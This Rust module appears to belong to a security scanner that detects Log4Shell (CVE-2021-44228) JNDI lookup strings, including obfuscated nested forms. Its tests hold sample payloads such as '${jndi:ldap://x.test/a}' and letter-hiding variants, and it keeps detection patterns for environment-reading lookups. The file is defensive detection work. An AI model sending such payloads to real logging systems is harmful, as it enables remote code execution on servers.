//! Lookups that a logging library follows: `${jndi:ldap://…}`, and the ways to hide its letters (CVE-2021-44228).

use super::{
    Hit,
    class::Class,
    scan::Bits,
    text::{Text, at, find, from},
};

/// Lookups that are expanded before the name is read. Overflow policy: none that is nested deeper is.
const MAX_NESTING: usize = 16;

/// Bytes of a value that are read. Overflow policy: what is behind is not.
const MAX_BYTES: usize = 2_048;

/// A lookup in this value.
pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    if !text.bits.any(Bits::BRACE) || !text.has("${") {
        return None;
    }
    let lower = text.lower.get(..MAX_BYTES).unwrap_or(text.lower);
    let (expanded, nested) = expand(lower);
    if has(&expanded, b"${jndi:") || has(&expanded, b"jndi:") && has(&expanded, b"://") {
        return Some(Hit::new(
            Class::JndiLookup,
            0.98,
            "a lookup that loads from elsewhere",
        ));
    }
    let hides = nested && (has(lower, b"${lower:") || has(lower, b"${upper:") || has(lower, b"${::-"));
    if hides {
        return Some(Hit::new(
            Class::JndiLookup,
            0.9,
            "a lookup whose letters are hidden",
        ));
    }
    let reads = [
        &b"${env:"[..],
        b"${sys:",
        b"${java:",
        b"${ctx:",
        b"${hostname}",
        b"${bundle:",
        b"${main:",
    ]
    .iter()
    .any(|lookup| has(lower, lookup));
    (reads && nested).then(|| Hit::new(Class::JndiLookup, 0.8, "a lookup that reads the environment"))
}

fn has(bytes: &[u8], needle: &[u8]) -> bool {
    find(bytes, needle).is_some()
}

/// Puts in place of `${lower:x}`, `${::-x}`, `${env:A:-x}` what they stand for. Whether lookups are nested in others.
fn expand(lower: &[u8]) -> (Vec<u8>, bool) {
    let mut out = Vec::with_capacity(lower.len());
    let mut open: Vec<usize> = Vec::new();
    let mut nested = false;
    let mut place = 0;
    while place < lower.len() {
        match at(lower, place) {
            b'$' if at(lower, place + 1) == b'{' => {
                nested |= !open.is_empty();
                if open.len() < MAX_NESTING {
                    open.push(out.len());
                }
                out.extend_from_slice(b"${");
                place += 2;
            }
            b'}' => {
                place += 1;
                let start = open.pop();
                let inside = start.map(|start| from(&out, start + 2).to_vec());
                match (start, inside.as_deref().and_then(stands_for)) {
                    (Some(start), Some(value)) => {
                        out.truncate(start);
                        out.extend_from_slice(&value);
                    }
                    _ => out.push(b'}'),
                }
            }
            byte => {
                out.push(byte);
                place += 1;
            }
        }
    }
    (out, nested)
}

/// What a lookup that hides letters stands for.
fn stands_for(inside: &[u8]) -> Option<Vec<u8>> {
    for prefix in [&b"lower:"[..], b"upper:"] {
        if let Some(value) = inside.strip_prefix(prefix) {
            return Some(value.to_vec());
        }
    }
    let default = memchr::memmem::rfind(inside, b":-")?;
    (!inside.starts_with(b"jndi")).then(|| from(inside, default + 2).to_vec())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::signature::text::Source;

    fn is_lookup(value: &str) -> bool {
        let lower = value.to_ascii_lowercase();
        detect(&Text::new(value.as_bytes(), lower.as_bytes(), Source::FreeHeader)).is_some()
    }

    #[test]
    fn hidden_letters_are_read() {
        for value in [
            "${jndi:ldap://x.test/a}",
            "${${lower:j}ndi:${lower:l}dap://x.test/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x.test}",
            "${${env:NaN:-j}ndi${env:NaN:-:}dns://x}",
            "x${jndi:dns:x",
        ] {
            assert!(is_lookup(value), "{value}");
        }
        for value in [
            "${name}",
            "cost ${price}",
            "`${a}/${b}`",
            "${env:HOME}",
            "${x:-default}",
            "$ {jndi}",
        ] {
            assert!(!is_lookup(value), "{value}");
        }
        assert!(!is_lookup(&"${".repeat(1_000)));
    }
}
